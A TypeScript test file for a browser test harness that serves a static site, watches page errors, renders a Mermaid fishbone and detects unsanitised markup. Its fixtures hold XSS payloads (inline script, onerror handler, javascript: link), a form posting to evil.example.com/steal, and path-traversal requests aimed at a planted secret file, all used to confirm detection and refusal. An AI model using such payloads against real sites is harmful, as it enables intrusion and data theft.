import { copyFileSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { request } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { REPO, workspaceWith } from '../helpers.js';
import { buildSite, openBrowser, renderedDiagram, screenshot, serveDirectory, survivingMarkup, type BrowserSession, type StaticServer } from './harness.js';

// The harness itself, on hand-written pages: that a failing site test means the site, not the harness.

const CLEAN = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>clean</title>
<link rel="stylesheet" href="assets/site.css"><script src="assets/site.js" defer></script></head>
<body><h1>Clean</h1><img alt="" src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="><a id="next" href="sub/">next</a></body></html>`;

const NOISY = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>noisy</title></head>
<body><h1>Noisy</h1>
<img src="https://tracker.example.com/pixel.png" alt="">
<script>
  console.error('boom from the page');
  fetch('https://api.example.org/collect').catch(() => {});
  setTimeout(() => { throw new Error('uncaught in a timer'); }, 0);
  fetch('missing.json').then((response) => response.text()).catch(() => {});
  window.__ran = true;
</script></body></html>`;

// The renderer the site's fishbone relies on, from node_modules, on its own: no network, no error, an ishikawa svg.
const MERMAID = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>fishbone</title>
<script src="mermaid.min.js"></script></head>
<body><section id="fishbone"><pre class="mermaid">ishikawa-beta
    Connection pool exhausted
        Process
            No load testing for bulk execution
            Deployed during peak hours
        Technology
            No alert on pool utilization
</pre></section>
<script>mermaid.initialize({ startOnLoad: false, securityLevel: 'strict' }); mermaid.run({ querySelector: '#fishbone .mermaid' });</script>
</body></html>`;

// What a site that failed to sanitise would serve (inline handlers and scripts blocked by a CSP, so that only the DOM tells).
const UNSANITISED = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>unsanitised</title>
<meta http-equiv="Content-Security-Policy" content="default-src 'self'; img-src 'self' data:">
<link rel="icon" href="data:,"><meta http-equiv="refresh" content="600;url=https://evil.example.com/">
<script type="application/json" id="data">{"body":"<script>window.__pwned=1<\\/script>"}</script></head>
<body><h1>Cache <b>Stampede</b></h1>
<script>window.__pwned=1</script>
<img src="x" onerror="window.__pwned=2" alt="">
<a href="javascript:window.__pwned=3">click</a> <a href="data:text/html,hi">data</a>
<iframe src="about:blank"></iframe>
<form action="https://evil.example.com/steal"><button>go</button></form>
<div style="background:url(https://evil.example.com/x.png)">styled</div>
<img alt="" src="data:image/png;base64,iVBORw0KGgo=">
</body></html>`;

let site: string;
let server: StaticServer;
let session: BrowserSession;

beforeAll(async () => {
  site = workspaceWith(
    {
      'index.html': CLEAN,
      'noisy.html': NOISY,
      'unsanitised.html': UNSANITISED,
      'fishbone.html': MERMAID,
      'sub/index.html': '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>sub</title></head><body><h1>Sub</h1></body></html>',
      'assets/site.css': 'body { font-family: sans-serif; }\n',
      'assets/site.js': 'document.body.dataset.ready = "yes";\n',
      'data.json': '{"ok":true}\n',
      'logo.svg': '<svg xmlns="http://www.w3.org/2000/svg"/>\n',
      'logo.png': 'not really a png\n',
      'notes.bin': 'x',
    },
    'pm-browser-harness-',
  );
  copyFileSync(join(REPO, 'node_modules/mermaid/dist/mermaid.min.js'), join(site, 'mermaid.min.js'));
  writeFileSync(join(site, '..', `outside-${site.split('/').pop()}.txt`), 'secret');
  server = await serveDirectory(site);
  session = await openBrowser();
});

afterAll(async () => {
  await session?.close();
  await server?.close();
  if (site) {
    rmSync(join(site, '..', `outside-${site.split('/').pop()}.txt`), { force: true });
    rmSync(site, { recursive: true, force: true });
  }
});

/** A raw GET, so that `..` reaches the server as written. */
function get(origin: string, path: string): Promise<{ status: number; type: string | undefined; location: string | undefined }> {
  return new Promise((done, fail) => {
    const url = new URL(origin);
    const req = request({ host: url.hostname, port: url.port, path, method: 'GET' }, (response) => {
      response.resume();
      response.on('end', () => done({ status: response.statusCode ?? 0, type: response.headers['content-type'], location: response.headers.location }));
    });
    req.on('error', fail);
    req.end();
  });
}

describe('the static server', () => {
  it('serves files with their types, a folder’s index.html, ignores the query, and 404s the rest', async () => {
    const { origin } = server;
    expect(server.origin).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
    expect(await get(origin, '/index.html?q=pool&severity=SEV3')).toMatchObject({ status: 200, type: 'text/html; charset=utf-8' });
    expect(await get(origin, '/')).toMatchObject({ status: 200, type: 'text/html; charset=utf-8' });
    expect(await get(origin, '/assets/site.js')).toMatchObject({ status: 200, type: 'text/javascript; charset=utf-8' });
    expect(await get(origin, '/assets/site.css')).toMatchObject({ status: 200, type: 'text/css; charset=utf-8' });
    expect(await get(origin, '/data.json')).toMatchObject({ status: 200, type: 'application/json; charset=utf-8' });
    expect(await get(origin, '/logo.svg')).toMatchObject({ status: 200, type: 'image/svg+xml' });
    expect(await get(origin, '/logo.png')).toMatchObject({ status: 200, type: 'image/png' });
    expect(await get(origin, '/notes.bin')).toMatchObject({ status: 200, type: 'application/octet-stream' });
    expect(await get(origin, '/sub')).toMatchObject({ status: 301, location: '/sub/' });
    expect(await get(origin, '/sub/')).toMatchObject({ status: 200 });
    expect((await get(origin, '/missing.html')).status).toBe(404);
    expect((await get(origin, '/favicon.ico')).status).toBe(404);
    const outside = `outside-${site.split('/').pop()}.txt`;
    expect((await get(origin, `/../${outside}`)).status).toBe(404);
    expect((await get(origin, `/%2e%2e/${outside}`)).status).toBe(404);
    expect((await get(origin, `/sub/..%2f..%2f${outside}`)).status).toBe(404);
    expect(server.log).toContain('404 /missing.html');
  });

  it('under a base path, serves only what is under it', async () => {
    const under = await serveDirectory(site, { base: '/repo/' });
    try {
      expect(under.root).toBe(`${under.origin}/repo/`);
      expect((await get(under.origin, '/repo/index.html')).status).toBe(200);
      expect((await get(under.origin, '/repo/assets/site.js')).status).toBe(200);
      expect((await get(under.origin, '/repo')).status).toBe(404);
      expect((await get(under.origin, '/index.html')).status).toBe(404);
    } finally {
      await under.close();
    }
  });
});

describe('the watched browser page', () => {
  it('a clean page has no problems, not even the favicon’s 404', async () => {
    const watched = await session.newPage(server.origin);
    await watched.page.goto(`${server.root}index.html`);
    await watched.settled();
    expect(await watched.page.$eval('body', (body) => body.dataset.ready)).toBe('yes');
    await Promise.all([watched.page.waitForNavigation(), watched.page.click('#next')]);
    expect(await watched.page.$eval('h1', (h1) => h1.textContent)).toBe('Sub');
    // Chromium asks for /favicon.ico by itself on some pages: ask for it here, to be sure it is ignored.
    await watched.page.evaluate(() => fetch('/favicon.ico').then(() => undefined));
    expect(watched.problems()).toEqual([]);
    await watched.page.close();
  });

  it('records console errors, page errors, 404s and requests to other origins, which never leave', async () => {
    const watched = await session.newPage(server.origin);
    await watched.page.goto(`${server.root}noisy.html`);
    await watched.page.waitForFunction(() => (window as unknown as { __ran?: boolean }).__ran === true);
    await watched.settled();
    expect(watched.blockedRequests.sort()).toEqual(['https://api.example.org/collect', 'https://tracker.example.com/pixel.png']);
    expect(watched.consoleErrors).toEqual(expect.arrayContaining([expect.stringContaining('boom from the page')]));
    expect(watched.pageErrors).toEqual([expect.stringContaining('uncaught in a timer')]);
    expect(watched.httpErrors).toEqual([`404 ${server.root}missing.json`]);
    // The server never saw the other origins' requests, and saw the page's.
    expect(server.log.filter((line) => /collect|pixel/.test(line))).toEqual([]);
    expect(server.log).toContain('404 /missing.json');
    expect(watched.problems().length).toBeGreaterThanOrEqual(5);
    await watched.page.close();
  });

  it('records dialogs, and dismisses them', async () => {
    const watched = await session.newPage(server.origin);
    await watched.page.goto(`${server.root}index.html`);
    await watched.page.evaluate(() => alert('hello'));
    expect(watched.dialogs).toEqual(['alert: hello']);
    await watched.page.close();
  });

  it('Mermaid from node_modules renders an ishikawa-beta fishbone offline, without an error', async () => {
    const watched = await session.newPage(server.origin);
    await watched.page.goto(`${server.root}fishbone.html`);
    await watched.page.waitForSelector('section#fishbone svg', { timeout: 30_000 });
    const diagram = await renderedDiagram(watched.page, 'section#fishbone svg');
    expect(diagram).toMatchObject({ kind: 'ishikawa', error: false });
    expect(diagram.labels).toEqual(expect.arrayContaining(['Connection pool exhausted', 'Process', 'No load testing for bulk execution', 'No alert on pool utilization']));
    expect(watched.problems()).toEqual([]);
    const path = await screenshot(watched.page, 'harness-fishbone');
    expect(readFileSync(path).subarray(0, 8)).toEqual(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
    rmSync(path);
    await watched.page.close();
  });
});

describe('survivingMarkup', () => {
  it('finds hostile markup that survived into the DOM even when a CSP keeps it from running, and passes the site’s own', async () => {
    const watched = await session.newPage(server.origin);
    await watched.page.goto(`${server.root}unsanitised.html`);
    const found = await survivingMarkup(watched.page);
    for (const expected of [
      /^embedded content: <iframe/,
      /^script from the document: <script>window\.__pwned=1/,
      /^event handler from the document: <img/,
      /^href=javascript: URL: <a/,
      /^href=data: URL: <a/,
      /^form posting elsewhere/,
      /^meta refresh/,
      /^style attribute from the document/,
      /^frontmatter markup as an element: <b>Stampede/,
    ]) {
      expect(found.filter((finding) => expected.test(finding)), String(expected)).toHaveLength(1);
    }
    // Neither the icon's data: URL, nor the JSON island, nor a data: image is a finding.
    expect(found).toHaveLength(9);
    expect(await watched.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    await watched.page.close();
  });
});

describe('buildSite', () => {
  it('runs the CLI with `site --out` in the workspace, and fails with what it printed unless it exits 0', async () => {
    const tools = workspaceWith(
      {
        'ok.mjs': `import { mkdirSync, writeFileSync } from 'node:fs';
const [, , command, flag, out, ...rest] = process.argv;
mkdirSync(out, { recursive: true });
writeFileSync(out + '/index.html', JSON.stringify({ command, flag, rest, cwd: process.cwd() }));`,
        'fails.mjs': `console.log('some output'); console.error('postmortem: it broke'); process.exit(2);`,
      },
      'pm-browser-cli-',
    );
    const workspace = join(tools, 'workspace');
    mkdirSync(workspace);
    await buildSite(workspace, '_site', ['--base-url', '/repo/'], join(tools, 'ok.mjs'));
    expect(JSON.parse(readFileSync(join(workspace, '_site/index.html'), 'utf8'))).toEqual({ command: 'site', flag: '--out', rest: ['--base-url', '/repo/'], cwd: workspace });
    await expect(buildSite(workspace, '_site', [], join(tools, 'fails.mjs'))).rejects.toThrow(/exited 2, not 0\n--- stdout\nsome output\n--- stderr\npostmortem: it broke/);
    rmSync(tools, { recursive: true, force: true });
  });
});
